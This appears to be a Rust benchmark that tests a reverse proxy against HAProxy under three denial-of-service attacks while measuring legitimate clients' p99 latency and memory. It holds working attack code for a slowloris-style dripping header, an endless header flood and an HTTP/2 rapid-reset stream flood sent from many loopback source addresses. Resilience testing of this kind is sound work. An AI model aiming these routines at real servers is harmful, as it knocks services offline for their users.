//! Clients that mean harm: what others see of it, and what it takes of memory.

use super::clients::{Load, get, head, percentile, runtime, serve};
use super::proxy::{Asked, Proxy};
use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering::SeqCst};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpSocket, TcpStream};
use tokio::time::sleep;

const OTHERS_PER_S: f64 = 500.0;
const WARM: Duration = Duration::from_secs(2);
const CALM: Duration = Duration::from_secs(8);
/// Until the attack is at its height.
const RISES: Duration = Duration::from_secs(5);
const UNDER: Duration = Duration::from_secs(10);
const DRIPPING: usize = 10_000;
const FLOODING: usize = 100;
const RESETTING: usize = 20;
const STREAMS_PER_S: u64 = 10_000;
/// Streams that one connection resets at a time.
const BURST: u64 = 10;

/// What there is of an attack.
#[derive(Default)]
struct Force {
    over: AtomicBool,
    open: AtomicUsize,
    done: AtomicU64,
    sources: AtomicUsize,
}

#[derive(Clone, Copy)]
enum Attack {
    Drip,
    Heads,
    Resets,
}

pub fn run(rounds: usize, dir: &Path) {
    println!("\nclients that mean harm; others, {OTHERS_PER_S}/s: their p99, and memory");
    println!(
        "{:<10} {:<10} {:>9} {:>10} {:>7} {:>8} {:>9} {:>11} {:>9}",
        "attack",
        "proxy",
        "calm, ms",
        "under, ms",
        "times",
        "calm, MB",
        "under, MB",
        "connections",
        "per s"
    );
    let instance = serve(instance);
    let asked = [Asked {
        prefix: "/",
        instances: vec![instance.address],
        bulkhead: None,
        breaker: None,
        hedge_percentile: None,
        haproxy: "",
    }];
    for _ in 0..rounds {
        for attack in [Attack::Drip, Attack::Heads, Attack::Resets] {
            measure(attack, &Proxy::everhold("everhold", &asked, dir));
            if let Some(proxy) = Proxy::haproxy(&asked, "", dir) {
                measure(attack, &proxy);
            }
        }
    }
}

async fn instance(listener: TcpListener) {
    while let Ok((mut socket, _)) = listener.accept().await {
        tokio::spawn(async move {
            let _ = socket.set_nodelay(true);
            let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
            while head(&mut socket).await.is_some() && socket.write_all(answer).await.is_ok() {}
        });
    }
}

fn measure(attack: Attack, proxy: &Proxy) {
    let load = Load::start(proxy.address, |_| get("/"), OTHERS_PER_S, WARM + CALM + RISES + UNDER);
    let begun = load.begun;
    let sleep_till = |at: Instant| std::thread::sleep(at.saturating_duration_since(Instant::now()));
    let (calm_from, calm_to) = (begun + WARM, begun + WARM + CALM);
    sleep_till(calm_to);
    let calm_mb = proxy.resident_mb();
    let force = Arc::new(Force::default());
    let (to, forces) = (proxy.address, force.clone());
    let attackers = std::thread::spawn(move || runtime().block_on(attack.run(to, forces)));
    let (from, until) = (calm_to + RISES, calm_to + RISES + UNDER);
    sleep_till(from);
    let (done, mut under_mb, mut open) = (force.done.load(SeqCst), 0.0_f64, 0);
    while Instant::now() < until {
        std::thread::sleep(Duration::from_millis(100));
        under_mb = under_mb.max(proxy.resident_mb());
        open = open.max(force.open.load(SeqCst));
    }
    let done = force.done.load(SeqCst) - done;
    force.over.store(true, SeqCst);
    let answers = load.end();
    attackers.join().expect("no panic");
    let calm = percentile(&answers, 99, (calm_from, calm_to));
    let under = percentile(&answers, 99, (from, until));
    println!(
        "{:<10} {:<10} {calm:>9.1} {under:>10.1} {:>7.2} {calm_mb:>8.1} {under_mb:>9.1} {open:>11} \
         {:>9.0}",
        attack.name(),
        proxy.name,
        under / calm,
        done as f64 / UNDER.as_secs_f64()
    );
}

impl Attack {
    fn name(self) -> &'static str {
        match self {
            Attack::Drip => "dripping",
            Attack::Heads => "heads",
            Attack::Resets => "resets",
        }
    }

    async fn run(self, to: SocketAddr, force: Arc<Force>) {
        let count = match self {
            Attack::Drip => DRIPPING,
            Attack::Heads => FLOODING,
            Attack::Resets => RESETTING,
        };
        for number in 0..count {
            let force = force.clone();
            tokio::spawn(async move {
                while !force.over.load(SeqCst) {
                    let Some(mut socket) = force.connect(to).await else {
                        sleep(Duration::from_millis(100)).await;
                        continue;
                    };
                    force.open.fetch_add(1, SeqCst);
                    match self {
                        Attack::Drip => drip(&mut socket, &force).await,
                        Attack::Heads => heads(&mut socket, &force).await,
                        Attack::Resets => resets(socket, &force).await,
                    };
                    force.open.fetch_sub(1, SeqCst);
                }
            });
            if number % 10 == 9 {
                sleep(Duration::from_millis(1)).await;
            }
        }
        while !force.over.load(SeqCst) {
            sleep(Duration::from_millis(10)).await;
        }
    }
}

impl Force {
    /// From many addresses: one alone has too few ports, and is soon let in no more.
    async fn connect(&self, to: SocketAddr) -> Option<TcpStream> {
        let number = self.sources.fetch_add(1, SeqCst);
        let from = [127, 1, (number / 250 % 250) as u8, (number % 250 + 1) as u8];
        let socket = TcpSocket::new_v4().ok()?;
        socket.bind((from, 0).into()).ok()?;
        let socket = socket.connect(to).await.ok()?;
        let _ = socket.set_nodelay(true);
        Some(socket)
    }
}

/// A head that comes byte by byte, for as long as somebody reads it.
async fn drip(socket: &mut TcpStream, force: &Force) -> Option<()> {
    socket.write_all(b"GET / HTTP/1.1\r\nHost: a\r\nX: ").await.ok()?;
    while !force.over.load(SeqCst) {
        let mut said = [0; 512];
        tokio::select! {
            // It is told to go, or cut.
            _ = socket.read(&mut said) => return None,
            () = sleep(Duration::from_secs(2)) => {}
        }
        socket.write_all(b"x").await.ok()?;
        force.done.fetch_add(1, SeqCst);
    }
    Some(())
}

/// Fields without an end, as fast as they are taken.
async fn heads(socket: &mut TcpStream, force: &Force) -> Option<()> {
    let fields = format!("X-Field: {}\r\n", "x".repeat(100)).repeat(20);
    let (mut read, mut write) = socket.split();
    write.write_all(b"GET / HTTP/1.1\r\nHost: a\r\n").await.ok()?;
    while !force.over.load(SeqCst) {
        let mut said = [0; 512];
        tokio::select! {
            _ = read.read(&mut said) => return None,
            written = write.write_all(fields.as_bytes()) => written.ok()?,
        }
        force.done.fetch_add(20, SeqCst);
    }
    Some(())
}

/// Streams of HTTP/2 that are reset as soon as they are asked for.
async fn resets(socket: TcpStream, force: &Force) -> Option<()> {
    let (mut read, mut write) = socket.into_split();
    let begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    write.write_all(begin).await.ok()?;
    let mut said = vec![0; 16_384];
    // By RFC 7541: GET, /, http, and the authority `a`.
    let fields = b"\x82\x84\x86\x41\x01a";
    let every = Duration::from_secs(1) * (RESETTING as u32) * (BURST as u32) / STREAMS_PER_S as u32;
    let (mut stream, mut next) = (1_u32, tokio::time::Instant::now());
    while !force.over.load(SeqCst) && stream < 1 << 30 {
        let mut frames = Vec::new();
        for _ in 0..BURST {
            frames.extend_from_slice(&[0, 0, fields.len() as u8, 1, 5]);
            frames.extend_from_slice(&stream.to_be_bytes());
            frames.extend_from_slice(fields);
            frames.extend_from_slice(&[0, 0, 4, 3, 0]);
            frames.extend_from_slice(&stream.to_be_bytes());
            frames.extend_from_slice(&[0, 0, 0, 8]);
            stream += 2;
        }
        write.write_all(&frames).await.ok()?;
        force.done.fetch_add(BURST, SeqCst);
        next += every;
        loop {
            tokio::select! {
                count = read.read(&mut said) => if !matches!(count, Ok(1..)) {
                    return None;
                },
                () = tokio::time::sleep_until(next) => break,
            }
        }
    }
    Some(())
}
